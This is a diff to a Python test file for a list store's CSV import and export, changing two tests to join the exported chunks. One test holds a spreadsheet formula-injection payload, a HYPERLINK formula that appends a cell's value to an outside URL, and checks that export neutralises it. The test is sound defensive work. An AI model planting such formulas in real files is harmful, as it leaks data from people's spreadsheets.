@@ -84,13 +84,13 @@ def test_an_entry_is_replaced(listed: PassStore) -> None:
 
 def test_a_csv_file_returns_as_it_came(listed: PassStore) -> None:
     assert listed.lists.import_csv("residents", CSV) == 2
-    assert listed.lists.export_csv("residents", REQUESTER) == CSV
+    assert "".join(listed.lists.export_csv("residents", REQUESTER)) == CSV
 
 
 def test_a_note_is_no_formula_in_a_csv_file(listed: PassStore) -> None:
     entry = ListEntry("A123BC77", '=HYPERLINK("http://site/?"&A1)')
     listed.lists.put("residents", [entry])
-    file = listed.lists.export_csv("residents", REQUESTER)
+    file = "".join(listed.lists.export_csv("residents", REQUESTER))
     assert file.splitlines()[1].startswith("A123BC77,\"'=HYPERLINK")
     listed.lists.import_csv("residents", file, replacing=True)
     assert listed.lists.entries("residents", EVERYTHING) == [entry]
